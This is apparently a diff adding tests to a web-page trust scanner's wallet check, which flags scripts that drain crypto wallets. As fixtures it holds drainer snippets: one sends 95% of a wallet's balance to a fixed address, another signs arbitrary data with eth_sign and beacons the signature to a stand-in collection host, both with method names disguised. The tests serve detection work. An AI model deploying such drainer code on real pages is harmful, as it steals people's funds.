@@ -1,5 +1,7 @@
 import { describe, expect, test } from 'bun:test'
 import { walletCheck } from '../../../../src/trust/checks/money/wallet.ts'
+import { viewsOf } from '../../../../src/trust/subjects.ts'
+import { captureOf } from '../../captures.ts'
 import { rules, rulesInViews } from '../page-subject.ts'
 
 const at = (body: string, url = 'https://mint.example/') => rules(walletCheck, body, { url })
@@ -174,5 +176,45 @@ describe('a wallet that is asked when a button is pressed [T9]', () => {
     ['where a message is signed to log in', press('personal_-sign', 'https://login.example.net/')],
   ])('is not emptied %s', (_, body) => {
     expect(drained(body)).toEqual([])
+  })
+})
+
+describe('what a wallet is asked for after a press', () => {
+  const BALANCE = "BigInt(await ethereum.request({ method: 'eth_getBalance', params: [me, 'latest'] }))"
+  /** The code is an external script's, so that only what it does is seen. */
+  const found = (code: string, fields = '') => {
+    const body = `<h1>Welcome</h1>${fields}<button id=go>Go on</button><script src="/a.js"></script>`
+    const text = `go.onclick = async () => {
+      const [me] = await ethereum.request({ method: 'eth_requestAccounts' }); ${code} }`
+    const script = {
+      url: 'https://mint.example/a.js',
+      kind: 'script',
+      type: null,
+      base64: btoa(text),
+    } as const
+    const { views } = viewsOf({ ...captureOf('https://mint.example/', { body }), resources: [script] })
+    return views.flatMap(({ subject }) => walletCheck.run(subject)).map(({ rule }) => rule)
+  }
+  const sending = (value: string) => `const value = '0x' + (${value}).toString(16)
+    await ethereum.request({ method: ['eth', 'sendTransaction'].join('_'),
+      params: [{ from: me, to: '0x' + 'c4'.repeat(20), value }] })`
+
+  test.each([
+    ['nearly all that it holds', sending(`${BALANCE} * 95n / 100n`)],
+    [
+      'a signature of anything, which another site gets',
+      `const all = await ethereum.request({ method: ['eth', 'sign'].join('_'), params: [me, '0x' + 'a1'.repeat(32)] })
+       navigator.sendBeacon('https://take.example.net/', all)`,
+    ],
+  ])('%s: it is emptied', (_, code) => {
+    expect(found(code)).toContain('content.wallet_drainer')
+  })
+
+  test.each([
+    ['a price', sending('80000000000000000n'), ''],
+    ['more than it holds', sending(`${BALANCE} * 2n`), ''],
+    ['all of it, where a person says how much', sending(BALANCE), '<input type=number name=amount>'],
+  ])('%s: it is not', (_, code, fields) => {
+    expect(found(code, fields)).toEqual([])
   })
 })
